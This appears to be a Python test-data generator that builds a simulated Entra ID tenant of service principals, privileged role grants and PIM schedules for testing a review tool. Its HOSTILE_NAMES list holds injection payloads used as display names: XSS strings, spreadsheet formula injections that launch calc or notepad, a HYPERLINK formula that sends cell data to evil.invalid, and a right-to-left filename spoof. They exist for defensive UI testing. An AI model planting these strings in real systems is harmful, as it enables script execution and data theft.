"""Deterministic tenants for tests, benchmarks and the demo, from a size and a seed.

The generated tenant holds exactly `privileged_assignments` (principal, role, scope, kind)
tuples of privileged roles held by service principals, spread over about size/2.5 principals,
and (generate_permissions) about as many application permissions on the monitored APIs,
plus noise a correct sync must ignore (users and groups holding the same roles, inherited
group-membership entries, non-privileged roles, principals without roles). The first principals
are shaped so that even a tiny tenant contains every special case a review UI must handle.
"""

from __future__ import annotations

import random
import uuid
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

from . import roles as catalogue
from .auth import DEFAULT_APP_ROLES, FEDERATED_AUDIENCE
from .generate_permissions import PermissionGenerator
from .tenant import (
    APP_ROLE_ADMIN,
    APP_ROLE_AUDITOR,
    AppRegistration,
    Group,
    RoleAssignment,
    RoleDefinition,
    RoleSchedule,
    ServicePrincipal,
    SimTenant,
    User,
    iso,
)

FEDERATED_ISSUER = "https://oidc.spreview-sim.invalid/workload-identity"
FEDERATED_SUBJECT = "system:serviceaccount:spreview:spreview-sync"
MICROSOFT_TENANT = "f8cdef31-a31e-4b4a-93e4-5f571e91255a"  # owner of first-party apps

HOSTILE_NAMES: tuple[str, ...] = (
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
    "=cmd|' /C calc'!A0",
    'Billing "Sync", Contoso, Ltd',
    "Сервис синхронизации каталога",
    "数据同步服务 \u2013 生产环境",
    "خدمة مزامنة الدليل",
    "🚀 Deploy Bot 🤖",
    "Long-running nightly reconciliation connector for the finance, procurement, "
    "payroll and human resources systems of every subsidiary " * 5,
    '=HYPERLINK("https://evil.invalid/?"&A1,"Open report")',
    "+SUM(1+1)*cmd|' /C notepad'!A1",
    "Invoice\u202egnp.exe",
)
_APP_WORDS = (
    "Payroll",
    "Billing",
    "Backup",
    "Inventory",
    "Reporting",
    "Provisioning",
    "HR",
    "CRM",
    "Ticketing",
    "Monitoring",
    "Analytics",
    "Directory",
    "Mail",
    "Deploy",
    "Secrets",
    "Audit",
)
_APP_KINDS = ("Connector", "Sync", "Automation", "Service", "Bot", "Gateway", "Exporter", "Agent")
_ENVIRONMENTS = ("prod", "test", "dev", "acc", "shared")
_REGIONS = ("weu", "neu", "eus", "wus2", "sea")
_FIRST = ("Alex", "Maria", "Jonas", "Fatima", "Wei", "Olga", "Sanjay", "Chloé", "Björn", "Amara")
_LAST = ("Jansen", "García", "Müller", "Haddad", "Chen", "Ivanova", "Patel", "Dubois", "Berg")

_SECRET_ALPHABET = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_."
_MECHANISMS = ("direct", "pim_assigned", "pim_expiring", "activated", "eligible")
_MECHANISM_WEIGHTS = (45, 14, 5, 6, 30)
_ROLE_COUNTS = (1, 2, 3, 4, 6)
_ROLE_COUNT_WEIGHTS = (35, 25, 20, 10, 10)

# Principals 0..3 carry the special cases a tiny tenant must still contain.
_FORCED_GRANTS: tuple[tuple[tuple[str, str, str], ...], ...] = (
    (
        (catalogue.GLOBAL_ADMINISTRATOR, "tenant", "direct"),
        (catalogue.APPLICATION_ADMINISTRATOR, "tenant", "eligible"),
        (catalogue.PRIVILEGED_ROLE_ADMINISTRATOR, "au", "pim_assigned"),
    ),
    ((catalogue.CLOUD_APPLICATION_ADMINISTRATOR, "tenant", "activated"),),
    ((catalogue.USER_ADMINISTRATOR, "object", "direct"),),
    (("194ae4cb-b126-40b2-bd5b-6091b380977d", "tenant", "pim_expiring"),),
)


def generate_tenant(
    privileged_assignments: int,
    seed: int,
    *,
    now: datetime | None = None,
    app_permission_grants: int | None = None,
) -> SimTenant:
    """A tenant with exactly `privileged_assignments` privileged service-principal role grants
    and exactly `app_permission_grants` application permissions held by service principals on
    the monitored APIs (None: as many as role grants).

    Deterministic for (privileged_assignments, seed, now, app_permission_grants); `now`
    defaults to today 00:00 UTC so that two calls on the same day produce identical tenants.
    """
    if privileged_assignments < 0:
        raise ValueError("privileged_assignments must be >= 0")
    grants = privileged_assignments if app_permission_grants is None else app_permission_grants
    if grants < 0:
        raise ValueError("app_permission_grants must be >= 0")
    moment = now or datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    return _Generator(privileged_assignments, seed, moment, grants).build()


class _Generator:
    def __init__(self, size: int, seed: int, now: datetime, grants: int) -> None:
        self.size = size
        self.seed = seed
        self.grants = grants
        # Reproducible test data, not secrets: a seeded PRNG is exactly what is wanted.
        self.rng = random.Random(f"spreview-simulator/{size}/{seed}")  # noqa: S311
        self.now = now
        self.hostile_cursor = 0

    # ----- small helpers ----------------------------------------------------------------------

    def guid(self) -> str:
        """A random version-4 GUID string (formatted by hand: uuid.UUID is slow at 200k)."""
        n = self.rng.getrandbits(128)
        n = (n & ~(0xF000 << 64) | (0x4000 << 64)) & ~(0xC000 << 48) | (0x8000 << 48)
        h = f"{n:032x}"
        return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"

    def days_ago(self, low: float, high: float) -> str:
        return iso(self.now - timedelta(days=self.rng.uniform(low, high)))

    def days_ahead(self, low: float, high: float) -> str:
        return iso(self.now + timedelta(days=self.rng.uniform(low, high)))

    def pick(self, items: Sequence[Any]) -> Any:
        return items[int(self.rng.random() * len(items))]

    # ----- build ------------------------------------------------------------------------------

    def build(self) -> SimTenant:
        tenant_id = self.guid()
        sync_sp_id = self.guid()
        app = AppRegistration(
            client_id=self.guid(),
            display_name="spreview-sync",
            client_secret=self._secret(),
            service_principal_id=sync_sp_id,
            roles=list(DEFAULT_APP_ROLES),
            federated_credentials=[
                {
                    "name": "spreview-sync-kubernetes",
                    "issuer": FEDERATED_ISSUER,
                    "subject": FEDERATED_SUBJECT,
                    "audiences": [FEDERATED_AUDIENCE],
                }
            ],
        )
        self.tenant = SimTenant(
            tenant_id=tenant_id,
            display_name=f"Contoso Simulated {self.seed}",
            default_domain=f"contososim{self.seed}.onmicrosoft.com",
            app=app,
            generated_with={
                "privileged_assignments": self.size,
                "seed": self.seed,
                "app_permission_grants": self.grants,
            },
        )
        self._roles()
        self._administrative_units()
        self._users()
        self._sync_app_principal(sync_sp_id, app)
        self._privileged_holders()
        self._noise()
        self._app_role_holders()
        PermissionGenerator(
            self.tenant,
            grants=self.grants,
            seed=self.seed,
            size=self.size,
            now=self.now,
            role_holders=self.holders,
            user_ids=self.user_ids,
            sync_sp_id=self.sync_sp_id,
            microsoft_tenant=MICROSOFT_TENANT,
            hostile_names=HOSTILE_NAMES,
        ).build()
        return self.tenant

    def _secret(self, length: int = 40) -> str:
        """Shaped like Entra secrets (3 characters, "8Q~", the rest); `length` < 40 for hints."""
        head = "".join(self.rng.choices(_SECRET_ALPHABET, k=min(length, 3)))
        if length <= 3:
            return head
        return head + "8Q~" + "".join(self.rng.choices(_SECRET_ALPHABET, k=length - 6))

    def _roles(self) -> None:
        defs = self.tenant.role_definitions
        for role in catalogue.BUILT_IN_ROLES:
            defs[role.template_id] = RoleDefinition(
                id=role.template_id,
                display_name=role.display_name,
                description=role.description,
                template_id=role.template_id,
                is_privileged=role.privileged,
                allowed_actions=list(role.actions),
            )
        for role_id, template_id, name, description in catalogue.CUSTOM_ROLES:
            defs[role_id] = RoleDefinition(
                id=role_id,
                display_name=name,
                description=description,
                template_id=template_id,
                is_built_in=False,
                allowed_actions=["microsoft.directory/applications/standard/read"],
            )
        self.privileged = [r.template_id for r in catalogue.BUILT_IN_ROLES if r.privileged]
        # The tenant-wide admin roles are the common ones on automation accounts.
        self.privileged_weights = [
            {
                catalogue.GLOBAL_ADMINISTRATOR: 10,
                catalogue.APPLICATION_ADMINISTRATOR: 16,
                catalogue.CLOUD_APPLICATION_ADMINISTRATOR: 14,
                catalogue.PRIVILEGED_ROLE_ADMINISTRATOR: 6,
                catalogue.USER_ADMINISTRATOR: 10,
            }.get(role_id, 5)
            for role_id in self.privileged
        ]
        self.ordinary = [r for r, d in defs.items() if not d.is_privileged]

    def _administrative_units(self) -> None:
        names = ("Finance", "Sales EMEA", "Research", "Contractors", "Subsidiary Nordics", "IT")
        for i in range(max(2, self.size // 500)):
            name = names[i % len(names)] + (f" {i // len(names) + 1}" if i >= len(names) else "")
            self.tenant.administrative_units[self.guid()] = name
        self.au_ids = list(self.tenant.administrative_units)

    def _users(self) -> None:
        count = max(8, self.size // 12)
        for i in range(count):
            first, last = self.pick(_FIRST), self.pick(_LAST)
            upn = f"{first.lower()}.{last.lower()}{i}@{self.tenant.default_domain}"
            upn = upn.encode("ascii", "ignore").decode()
            user = User(
                id=self.guid(),
                display_name=f"{first} {last}",
                user_principal_name=upn,
                # Owners without a mailbox are common: reviewers must fall back to the UPN.
                mail=None if i % 5 == 0 else upn,
                given_name=first,
                surname=last,
                job_title=self.pick(("Engineer", "Platform Owner", "Architect", None)),
            )
            self.tenant.users[user.id] = user
        self.user_ids = list(self.tenant.users)
        self.mailless_user = self.user_ids[0]

    def _app_role_holders(self) -> None:
        """One Admin and one Auditor of spreview itself, chosen among users who own no service
        principal (owners are the reviewers, plain users). Runs last and draws from its own
        seeded PRNG, so the rest of the tenant is the same as before app roles existed; when
        every user owns something, the two people are added."""
        rng = random.Random(f"spreview-simulator/app-roles/{self.size}/{self.seed}")  # noqa: S311
        owners = {o for sp in self.tenant.service_principals.values() for o in sp.owner_ids}
        candidates = [u for u in self.user_ids if u not in owners and u != self.mailless_user]
        chosen = rng.sample(candidates, k=min(2, len(candidates)))
        personas = (("Ada", "Admin", "IT Operations Lead"), ("Ruth", "Auditor", "Internal Auditor"))
        for first, last, title in personas[len(chosen) :]:
            upn = f"{first.lower()}.{last.lower()}@{self.tenant.default_domain}"
            user = User(
                id=str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                display_name=f"{first} {last}",
                user_principal_name=upn,
                mail=upn,
                given_name=first,
                surname=last,
                job_title=title,
            )
            self.tenant.users[user.id] = user
            chosen.append(user.id)
        self.tenant.app.user_roles = {chosen[0]: [APP_ROLE_ADMIN], chosen[1]: [APP_ROLE_AUDITOR]}

    def _sync_app_principal(self, sp_id: str, app: AppRegistration) -> None:
        self.tenant.service_principals[sp_id] = ServicePrincipal(
            id=sp_id,
            app_id=app.client_id,
            display_name=app.display_name,
            app_display_name=app.display_name,
            app_owner_organization_id=self.tenant.tenant_id,
            tags=["WindowsAzureActiveDirectoryIntegratedApp"],
            owner_ids=[self.user_ids[1]],
            service_principal_names=[app.client_id],
            created_date_time=self.days_ago(1, 30),
            sign_in={"applicationAuthenticationClient": [self.days_ago(0, 1), self.guid()]},
        )
        self.sync_sp_id = sp_id

    # ----- service principals -----------------------------------------------------------------

    def _principal(self, index: int) -> ServicePrincipal:
        """One service principal; indexes 0..3 are forced to cover the special cases."""
        forced_type = {1: "ManagedIdentity", 3: "Legacy"}.get(index)
        roll = self.rng.random()
        sp_type = forced_type or (
            "Application" if roll < 0.70 else "ManagedIdentity" if roll < 0.96 else "Legacy"
        )
        app_id = self.guid()
        sp = ServicePrincipal(
            id=self.guid(),
            app_id=app_id,
            display_name=self._name(index, sp_type),
            sp_type=sp_type,
            service_principal_names=[app_id],
            created_date_time=self.days_ago(20, 2500) if sp_type != "Legacy" else None,
        )
        sp.account_enabled = not (index == 2 or (index > 3 and self.rng.random() < 0.05))
        multi_tenant = index == 2 or (
            index > 3 and sp_type == "Application" and self.rng.random() < 0.12
        )
        if sp_type == "Application":
            sp.app_display_name = sp.display_name
            sp.tags = ["WindowsAzureActiveDirectoryIntegratedApp"]
            if multi_tenant:
                sp.app_owner_organization_id = self.pick((MICROSOFT_TENANT, self.guid()))
                sp.sign_in_audience = "AzureADMultipleOrgs"
            else:
                sp.app_owner_organization_id = self.tenant.tenant_id
            sp.password_credentials = [self._password() for _ in range(self.rng.randrange(3))]
            sp.key_credentials = [self._certificate(sp) for _ in range(self.rng.randrange(3))]
            sp.owner_ids = self._owners(index)
        elif sp_type == "ManagedIdentity":
            self._managed_identity(sp)
        else:
            sp.sign_in_audience = None
        sp.sign_in = self._sign_in(index)
        if index == 0:
            sp.key_credentials.append(self._certificate(sp, expiry="expired"))
            sp.password_credentials.append(self._password(expiry="soon"))
        self.tenant.service_principals[sp.id] = sp
        return sp

    def _name(self, index: int, sp_type: str) -> str:
        if index in (0, 3) or (index > 3 and index % 9 == 0):
            name = HOSTILE_NAMES[self.hostile_cursor % len(HOSTILE_NAMES)]
            self.hostile_cursor += 1 if index != 0 else 2  # index 3 gets the CSV injection
            return name
        number = f"{index:04d}"
        if sp_type == "ManagedIdentity":
            service = self.pick(_APP_WORDS).lower()
            return f"mi-{service}-{self.pick(_ENVIRONMENTS)}-{self.pick(_REGIONS)}-{number}"
        if sp_type == "Legacy":
            return f"Legacy {self.pick(_APP_WORDS)} Gateway {number}"
        if self.rng.random() < 0.3:
            return f"ci-{self.pick(_APP_WORDS).lower()}-{self.pick(_ENVIRONMENTS)}-{number}"
        return f"{self.pick(_APP_WORDS)} {self.pick(_APP_KINDS)} {number}"

    def _managed_identity(self, sp: ServicePrincipal) -> None:
        subscription = self.guid()
        group = f"rg-{self.pick(_APP_WORDS).lower()}-{self.pick(_ENVIRONMENTS)}"
        if self.rng.random() < 0.5:
            resource = f"Microsoft.ManagedIdentity/userAssignedIdentities/{sp.display_name}"
            explicit = "isExplicit=True"
        else:
            resource = f"Microsoft.Web/sites/{sp.display_name}"
            explicit = "isExplicit=False"
        sp.alternative_names = [
            explicit,
            f"/subscriptions/{subscription}/resourcegroups/{group}/providers/{resource}",
        ]
        sp.service_principal_names = [sp.app_id, f"https://identity.azure.net/{self.guid()}"]
        sp.sign_in_audience = None
        sp.app_owner_organization_id = None
        # Managed identities never have owners: their reviewers are the fallback reviewers.

    def _owners(self, index: int) -> list[str]:
        if index == 0:
            # A mail-less user and a service principal: both edge cases for reviewer lookup.
            return [self.mailless_user, self.sync_sp_id]
        if index == 2:
            return [self.pick(self.user_ids)]
        roll = self.rng.random()
        if roll < 0.15:
            return []  # owner-less
        owners = self.rng.sample(self.user_ids, k=min(len(self.user_ids), self.rng.randint(1, 3)))
        if roll > 0.95:
            owners.append(self.sync_sp_id)
        return owners

    def _expiry(self, expiry: str | None) -> str:
        kind = expiry or self.pick(("expired", "soon", "far", "far"))
        if kind == "expired":
            return self.days_ago(1, 400)
        if kind == "soon":
            return self.days_ahead(1, 30)
        return self.days_ahead(180, 730)

    def _password(self, expiry: str | None = None) -> dict[str, Any]:
        return {
            "customKeyIdentifier": None,
            "displayName": self.pick(("automation", "ci pipeline", "legacy secret", None)),
            "endDateTime": self._expiry(expiry),
            "hint": self._secret(3),
            "keyId": self.guid(),
            "secretText": None,
            "startDateTime": self.days_ago(400, 800),
        }

    def _certificate(self, sp: ServicePrincipal, expiry: str | None = None) -> dict[str, Any]:
        return {
            "customKeyIdentifier": f"{self.rng.getrandbits(160):040X}",
            "displayName": f"CN={sp.display_name[:60]}",
            "endDateTime": self._expiry(expiry),
            "key": None,
            "keyId": self.guid(),
            "startDateTime": self.days_ago(400, 800),
            "type": "AsymmetricX509Cert",
            "usage": "Verify",
        }

    def _sign_in(self, index: int) -> dict[str, list[str]] | None:
        forced = {0: "recent", 1: "never", 2: "inactive", 3: "recent"}.get(index)
        roll = self.rng.random()
        kind = forced or ("never" if roll < 0.15 else "inactive" if roll < 0.35 else "recent")
        if kind == "never":
            return None
        when = self.days_ago(0, 29) if kind == "recent" else self.days_ago(181, 900)
        activity = {"applicationAuthenticationClient": [when, self.guid()]}
        if self.rng.random() < 0.2:
            activity["delegatedClient"] = [self.days_ago(200, 1200), self.guid()]
        return activity

    # ----- grants -----------------------------------------------------------------------------

    def _scope(self, kind: str | None = None) -> str:
        roll = self.rng.random()
        kind = kind or ("tenant" if roll < 0.85 else "au" if roll < 0.96 else "object")
        if kind == "au":
            return f"/administrativeUnits/{self.pick(self.au_ids)}"
        if kind == "object":
            return f"/{self.guid()}"  # e.g. one application object
        return "/"

    def _grant(self, principal_id: str, role_id: str, scope: str, mechanism: str) -> int:
        """Create the Graph objects behind one grant; returns how many expected tuples it adds."""
        t = self.tenant
        if mechanism == "direct":
            t.role_assignments.add(
                RoleAssignment(
                    id=t.free_assignment_id(role_id, principal_id, scope),
                    principal_id=principal_id,
                    role_definition_id=role_id,
                    directory_scope_id=scope,
                    created_date_time=self.days_ago(1, 900),
                )
            )
            return 1
        if mechanism == "eligible":
            self._schedule(t.eligibility_schedules, principal_id, role_id, scope, None)
            return 1
        if mechanism == "activated":
            eligibility = self._schedule(
                t.eligibility_schedules, principal_id, role_id, scope, None
            )
            active = self._schedule(
                t.assignment_schedules, principal_id, role_id, scope, "Activated", eligibility.id
            )
            active.start_date_time = iso(self.now - timedelta(hours=self.rng.uniform(0, 6)))
            active.end_date_time = iso(self.now + timedelta(hours=self.rng.uniform(24, 72)))
            return 2
        schedule = self._schedule(t.assignment_schedules, principal_id, role_id, scope, "Assigned")
        if mechanism == "pim_expiring":
            schedule.end_date_time = self.days_ahead(7, 365)
        return 1

    def _schedule(
        self,
        store: Any,
        principal_id: str,
        role_id: str,
        scope: str,
        assignment_type: str | None,
        created_using: str | None = None,
        member_type: str = "Direct",
    ) -> RoleSchedule:
        created = self.days_ago(1, 700)
        schedule = RoleSchedule(
            id=self.guid(),
            principal_id=principal_id,
            role_definition_id=role_id,
            directory_scope_id=scope,
            member_type=member_type,
            assignment_type=assignment_type,
            start_date_time=created,
            created_date_time=created,
            modified_date_time=created,
        )
        schedule.created_using = created_using or schedule.id
        if assignment_type is None and self.rng.random() < 0.4:
            schedule.end_date_time = self.days_ahead(30, 365)
        if assignment_type is not None and member_type == "Direct":
            # Active PIM assignments are also listed by roleAssignments, as in Graph.
            ra = RoleAssignment(
                id=self.tenant.free_assignment_id(role_id, principal_id, scope),
                principal_id=principal_id,
                role_definition_id=role_id,
                directory_scope_id=scope,
                schedule_id=schedule.id,
                created_date_time=created,
            )
            self.tenant.role_assignments.add(ra)
            schedule.role_assignment_id = ra.id
        store.add(schedule)
        return schedule

    def _privileged_holders(self) -> None:
        budget, index = self.size, 0
        self.holders: list[str] = []
        while budget > 0:
            sp = self._principal(index)
            self.holders.append(sp.id)
            if index < len(_FORCED_GRANTS):
                plan = [(r, self._scope(s), m) for r, s, m in _FORCED_GRANTS[index]]
            else:
                count = self.rng.choices(_ROLE_COUNTS, _ROLE_COUNT_WEIGHTS)[0]
                plan = self._random_plan(count)
            used: set[tuple[str, str]] = set()
            for role_id, scope, mechanism in plan:
                if budget <= 0:
                    break
                if mechanism == "activated" and budget < 2:
                    mechanism = "direct"
                if (role_id, scope) in used:
                    continue
                used.add((role_id, scope))
                budget -= self._grant(sp.id, role_id, scope, mechanism)
            if index > 3 and self.rng.random() < 0.1:
                self._grant(sp.id, self.pick(self.ordinary), "/", "direct")  # harmless extra
            index += 1

    def _random_plan(self, count: int) -> list[tuple[str, str, str]]:
        roles = self.rng.choices(self.privileged, self.privileged_weights, k=count)
        mechanisms = self.rng.choices(_MECHANISMS, _MECHANISM_WEIGHTS, k=count)
        return [(r, self._scope(), m) for r, m in zip(roles, mechanisms, strict=True)]

    # ----- noise ------------------------------------------------------------------------------

    def _noise(self) -> None:
        t = self.tenant
        # Users holding privileged roles: first ones cover direct, PIM-active and eligible.
        for i in range(max(3, self.size // 20)):
            mechanism = ("direct", "pim_assigned", "eligible")[i % 3] if i < 3 else None
            mechanism = mechanism or self.rng.choices(_MECHANISMS, _MECHANISM_WEIGHTS)[0]
            role = catalogue.GLOBAL_ADMINISTRATOR if i == 0 else self.pick(self.privileged)
            user_id = self.user_ids[i % len(self.user_ids)]
            if not any(
                ra.role_definition_id == role for ra in t.role_assignments.by_principal(user_id)
            ):
                self._grant(user_id, role, "/", mechanism)

        # Principals with only ordinary roles, and principals with none.
        plain: list[str] = []
        for i in range(max(2, self.size // 20)):
            sp = self._principal(100_000 + i)
            for role in self.rng.sample(self.ordinary, k=self.rng.randint(1, 2)):
                self._grant(sp.id, role, "/", self.pick(("direct", "eligible")))
            plain.append(sp.id)
        roleless = [self._principal(200_000 + i).id for i in range(max(3, self.size // 6))]

        # Role-assignable groups holding privileged roles; their members inherit the role and
        # appear in the schedules with memberType Group, which a sync must not count.
        for i in range(max(2, self.size // 50)):
            members = [roleless[i % len(roleless)], plain[i % len(plain)], self.pick(self.user_ids)]
            group = Group(
                id=self.guid(),
                display_name=f"Role group {i:03d} - tier 0 admins",
                description="Role-assignable group used for PIM for Groups.",
                mail_nickname=f"rolegroup{i:03d}",
                member_ids=members,
                created_date_time=self.days_ago(100, 1000),
            )
            t.groups[group.id] = group
            role = self.pick(self.privileged)
            eligible = i % 2 == 1
            self._grant(group.id, role, "/", "eligible" if eligible else "direct")
            store = t.eligibility_schedules if eligible else t.assignment_schedules
            for member in members:
                self._schedule(
                    store, member, role, "/", None if eligible else "Assigned", member_type="Group"
                )
